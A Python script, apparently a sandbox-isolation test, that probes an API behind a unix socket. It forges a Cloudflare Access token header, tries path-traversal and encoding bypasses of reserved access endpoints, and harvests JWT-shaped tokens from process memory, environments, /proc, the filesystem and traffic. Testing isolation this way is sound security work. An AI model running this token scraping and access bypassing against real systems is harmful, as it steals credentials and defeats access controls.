"""What root in a sandbox can find out that holds nothing but the socket of `access http`.

Uses the API, tries what must be refused, and looks for tokens in memory, environments, files,
/proc and traffic. Prints one JSON object; for each line on standard input it asks the API once
more and prints the status.
"""
import json
import os
import re
import subprocess
import sys

TOKEN = re.compile(rb"eyJ[\w-]{10,}\.[\w-]{10,}\.[\w-]{20,}")
SOCKET = "/run/app.sock"


def curl(path, *options, host="localhost"):
    command = ["curl", "-sS", "--unix-socket", SOCKET, *options, f"http://{host}{path}"]
    return subprocess.run(command, capture_output=True).stdout


def status(path, *options):
    return curl(path, "-o", "/dev/null", "-w", "%{http_code}", "--path-as-is", *options).decode()


def processes():
    return [name for name in os.listdir("/proc") if name.isdigit()]


def read(path):
    try:
        with open(path, "rb") as file:
            return file.read()
    except OSError:
        return b""


def memory(process):
    found = set()
    try:
        maps = read(f"/proc/{process}/maps").decode().splitlines()
        with open(f"/proc/{process}/mem", "rb", 0) as file:
            for line in maps:
                span, modes = line.split()[:2]
                start, end = (int(each, 16) for each in span.split("-"))
                if "r" not in modes or line.endswith("[vvar]"):
                    continue
                try:
                    file.seek(start)
                    found.update(TOKEN.findall(file.read(end - start)))
                except (OSError, ValueError, OverflowError):
                    pass
    except OSError:
        pass
    return found


def files():
    for folder, _, names in os.walk("/"):
        if folder.startswith(("/usr", "/proc", "/dev")):
            continue
        for name in names:
            path = os.path.join(folder, name)
            if os.path.isfile(path):
                yield path


def search(traffic):
    found = {"memory": set(), "environment": set(), "proc": set(), "files": set()}
    for process in processes():
        found["memory"] |= memory(process)
        found["environment"] |= set(TOKEN.findall(read(f"/proc/{process}/environ")))
        for name in ("cmdline", "status", "mountinfo", "net/unix", "net/tcp"):
            found["proc"] |= set(TOKEN.findall(read(f"/proc/{process}/{name}")))
    for path in files():
        found["files"] |= set(TOKEN.findall(read(path)))
    found["traffic"] = set(TOKEN.findall(traffic))
    return {where: sorted(each.decode() for each in tokens) for where, tokens in found.items()}


def main():
    stream = subprocess.Popen(
        ["curl", "-sSN", "--unix-socket", SOCKET, "http://localhost/events"],
        stdout=subprocess.PIPE,
    )
    stream.stdout.read(1)
    echo = curl("/v1/orders", "-i", "-H", "X-Mine: 1")
    assertion = TOKEN.search(echo)
    forged = ["-H", b"cf-access-token: " + (assertion.group() if assertion else b"")]
    traffic = curl("/v1/orders", "--trace-ascii", "-", "-o", "/dev/null") + echo
    prefix = "/cdn-cgi/access"
    report = {
        "echo": echo.decode(),
        "reserved": {
            name: [
                status(f"{prefix}/{name}"),
                status(f"{prefix}/{name}", "-X", "POST"),
                status(f"/x/..//%63dn-cgi/access;a/{name}", "-X", "POST"),
            ]
            for name in ("pass", "logout", "get-identity", "grants")
        },
        "withAssertion": status("/v1/orders", *forged),
        "processes": len(processes()),
        "network": subprocess.run(
            ["curl", "-sS", "-m", "5", sys.argv[1] if len(sys.argv) > 1 else "http://127.0.0.1"],
            capture_output=True,
        ).returncode,
        "found": search(traffic),
    }
    stream.kill()
    print(json.dumps(report), flush=True)
    for _ in sys.stdin:
        print(json.dumps({"status": status("/v1/orders")}), flush=True)


main()
